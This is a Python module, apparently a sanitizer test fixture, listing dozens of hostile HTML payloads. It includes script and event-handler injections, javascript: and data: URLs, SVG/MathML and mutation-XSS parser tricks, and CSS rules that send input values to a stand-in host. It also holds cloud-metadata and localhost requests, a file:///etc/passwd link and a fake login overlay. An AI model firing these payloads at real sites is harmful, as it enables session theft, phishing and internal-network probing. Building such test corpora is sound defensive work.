"""HTML that attacks whoever shows it: each case written after what was published about a hole somewhere.

Each would, if it came through, fetch `http://tap.test/…`, or run `pwned()`.
"""

from __future__ import annotations

__all__ = ["HOSTILE"]

_JS = "pwned()"
_AT = "http://tap.test"

HOSTILE: dict[str, str] = {
    # -- scripts, plain and in disguise
    "script": f"<script>{_JS}</script>",
    "script-src": f"<script src={_AT}/s.js></script>",
    "script-broken": f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    "script-unclosed": f"<script>{_JS}",
    "handler": f"<img src=x onerror={_JS}>",
    "handler-slash": f"<img/src=x/onerror={_JS}>",
    "handler-form-feed": f"<img\fsrc=x\fonerror={_JS}>",
    "handler-quote": f"""<img src="x" title="'"onerror='{_JS}'>""",
    "handler-capital": f"<IMG SRC=x OnErRoR={_JS}>",
    "handler-body": f"<body onload={_JS} onpageshow={_JS}>x",
    "handler-details": f"<details open ontoggle={_JS}>x</details>",
    "handler-nul": f"<img src=x one\0rror={_JS} onerror\0={_JS}>",
    "handler-animation": f"<style>@keyframes x{{}}</style><p style='animation:x' onanimationstart={_JS}>x",
    # -- URLs that are code
    "javascript-link": f"<a href=javascript:{_JS}>x</a>",
    "javascript-spaces": f"<a href=' \x01 java\tscr\nipt\r:{_JS}'>x</a>",
    "javascript-entities": f"<a href='&#0000106&#x61;vascript&colon;{_JS}'>x</a>",
    "vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "data-page": f"<a href='data:text/html,<script>{_JS}</script>'>x</a>",
    "data-svg": f"<img src=\"data:image/svg+xml,<svg onload='{_JS}'>\">",
    "data-svg-base64": "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQoKT4='>",
    "javascript-image": f"<img src=javascript:{_JS}><input type=image src=javascript:{_JS}>",
    "javascript-area": f"<map name=m><area href=javascript:{_JS} coords=0,0,9,9></map><img usemap=#m src=x>",
    "javascript-form": f"<form action=javascript:{_JS}><button formaction=javascript:{_JS}>x</button></form>",
    # -- frames, objects, what changes the page
    "iframe": f"<iframe src={_AT}/f></iframe><iframe srcdoc='<script>{_JS}</script>'></iframe>",
    "object": f"<object data={_AT}/o><embed src={_AT}/e></object>",
    "base": f"<base href={_AT}/><img src=/x.png><a href=y>y</a>",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={_AT}/r'>",
    "link-sheet": f"<link rel=stylesheet href={_AT}/l.css><link rel=prefetch href={_AT}/p>",
    "link-private": "<link rel=stylesheet href=http://127.0.0.1:8080/admin>",
    "form": f"<form action={_AT}/login><input name=password type=password autofocus onfocus={_JS}></form>",
    "template": f"<template><img src=x onerror={_JS}></template>",
    "portal": f"<portal src={_AT}/p></portal><fencedframe></fencedframe>",
    # -- SVG and MathML: Roundcube 2024 to 2026, DOMPurify
    "svg-load": f"<svg onload={_JS}>",
    "svg-script": f"<svg><script href=data:,{_JS} /></svg>",
    "svg-animate-href": f"<svg><a><animate attributeName=href values=javascript:{_JS} /><text y=20>x</text></a></svg>",
    "svg-animate-style": (
        "<svg><rect><animate attributeName=style from='fill:url(//tap.test/a)' to='x' /></rect></svg>"
    ),
    "svg-animate-by": f"<svg><image><set attributeName=href to={_AT}/s /></image></svg>",
    "svg-fill": f"<svg><rect width=9 height=9 fill='url({_AT}/f#x)' mask='url({_AT}/m#x)' /></svg>",
    "svg-filter": f"<svg><rect filter='url({_AT}/f#x)' stroke='url({_AT}/s#x)' /></svg>",
    "svg-use": f"<svg><use href={_AT}/u#x /><image href={_AT}/i /></svg>",
    "svg-foreign": f"<svg><foreignObject><iframe src=javascript:{_JS}></iframe></foreignObject></svg>",
    "svg-break-out": f"<svg><p><style><img src=x onerror={_JS}></style></p></svg>",
    "math-href": f"<math href=javascript:{_JS}>x</math><math><mtext><img src=x onerror={_JS}></mtext></math>",
    # -- what changes its meaning when it is parsed again (mXSS)
    "mxss-noscript": f'<noscript><p title="</noscript><img src=x onerror={_JS}>">',
    "mxss-style": f'<svg></p><style><a id="</style><img src=x onerror={_JS}>">',
    "mxss-math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={_JS}&gt;">',
    "mxss-form": f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_JS}>",
    "mxss-cdata": f"<svg><![CDATA[><img src=x onerror={_JS}>]]></svg>",
    "mxss-comment": f"<!--><img src=x onerror={_JS}>--><!--!><img src=x onerror={_JS}>-->",
    "mxss-comment-bang": f"<!-- --!><img src=x onerror={_JS}> -->",
    "mxss-title": f"<title><p title='</title><img src=x onerror={_JS}>'>",
    "mxss-textarea": f"<textarea><p title='</textarea><img src=x onerror={_JS}>'>",
    "mxss-xmp": f"<xmp><p title='</xmp><img src=x onerror={_JS}>'></xmp>",
    "mxss-select": f"<select><style></select><img src=x onerror={_JS}></style>",
    "mxss-backtick": f"<p title='`x onerror={_JS}'>x",
    "mxss-table": f"<table><caption><svg><title><table><caption></caption></table><style><img src=x onerror={_JS}>",
    "mxss-depth": "<div>" * 90 + f"<svg><style><b title='</style><img src=x onerror={_JS}>'>",
    "mxss-doctype": f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={_JS}>'>]>&y;",
    "processing": f"<?xml-stylesheet href={_AT}/x?><?php <img src=x onerror={_JS}> ?>",
    # -- style
    "css-import": f"<style>@import '{_AT}/i.css';@import url({_AT}/j.css);</style>",
    "css-font": f"<style>@font-face{{font-family:x;src:url({_AT}/f)}}p{{font-family:x}}</style><p>x",
    "css-background": f"<style>body{{background:url({_AT}/b)}}</style><p style='background:url({_AT}/p)'>x",
    "css-unclosed": f"<p style='background:url({_AT}/u'>x</p><style>p{{background:url({_AT}/v",
    "css-escape": f"<p style='background:\\75\\72\\6c({_AT}/e)'>x</p><p style='b\\61ckground:url({_AT}/f)'>x",
    "css-comment": f"<p style='background:u/**/rl({_AT}/c);width:exp/**/ression({_JS})'>x",
    "css-expression": f"<p style='width:expression({_JS});behavior:url({_AT}/h);-moz-binding:url({_AT}/x)'>x",
    "css-variable": (
        f"<style>*{{--u:url({_AT}/v)}}p{{background:var(--u)}}</style><p style='--w:url({_AT}/w);background:var(--w)'>x"
    ),
    "css-image-set": f"<p style=\"background:image-set('{_AT}/i' 1x);content:url({_AT}/c)\">x",
    "css-cursor": f"<p style='cursor:url({_AT}/c),auto;list-style-image:url({_AT}/l);border-image:url({_AT}/b)'>x",
    "css-mask": f"<p style='mask:url({_AT}/m);filter:url({_AT}/f);clip-path:url({_AT}/c);offset-path:url({_AT}/o)'>x",
    "css-fixed": (
        "<div style='position:fixed!important;top:0;left:0;width:100vw;height:100vh;z-index:9'>Log in again</div>"
    ),
    "css-fixed-sheet": "<style>div{position:fixed !important;inset:0}</style><div>Log in again</div>",
    "css-end": f"<style>p{{font-family:'</style><img src=x onerror={_JS}>'}}</style>",
    "css-selector": f"<style>input[value^=a]{{background:url({_AT}/a)}}p::before{{content:url({_AT}/d)}}</style><p>x",
    "css-namespace": f"<style>@namespace url({_AT}/n);@layer x{{p{{background:url({_AT}/l)}}}}</style><p>x",
    "css-nesting": f"<style>p{{color:red;&{{background:url({_AT}/n)}}}}</style><p>x",
    # -- pictures and other requests
    "image": f"<img src={_AT}/1.gif><img srcset='{_AT}/2.gif 1x'><picture><source srcset={_AT}/3.gif></picture>",
    "image-relative": "<img src=//tap.test/4.gif><img src=\\\\tap.test/5.gif><img src='/\\tap.test/6.gif'>",
    "image-old": f"<img lowsrc={_AT}/7.gif dynsrc={_AT}/8.gif longdesc={_AT}/9 src=''><image src={_AT}/a.gif>",
    "image-tab": "<img src='ht\ntp://tap.test/b.gif'><img src='\x01http://tap.test/c.gif'>",
    "background": (
        f"<body background={_AT}/d.gif><table background={_AT}/e.gif><tr><td background={_AT}/f.gif>x</table>"
    ),
    "media": f"<video poster={_AT}/p src={_AT}/v></video><audio src={_AT}/a autoplay></audio><bgsound src={_AT}/b>",
    "ping": f"<a href=https://a.example ping={_AT}/p>x</a><q cite={_AT}/q>x</q>",
    "manifest": f"<html manifest={_AT}/m><head profile={_AT}/p>",
    "ftp": "<img src=ftp://tap.test/x><a href=file:///etc/passwd>x</a>",
    "private": (
        "<img src=http://169.254.169.254/latest/><img src=http://127.0.0.1.nip.io/><img src=http://100.64.0.1/>"
    ),
    # -- names of ours
    "clobber": "<form id=document name=cookie></form><img name=body><a id=location href=x>x</a><p id=__proto__>x",
}
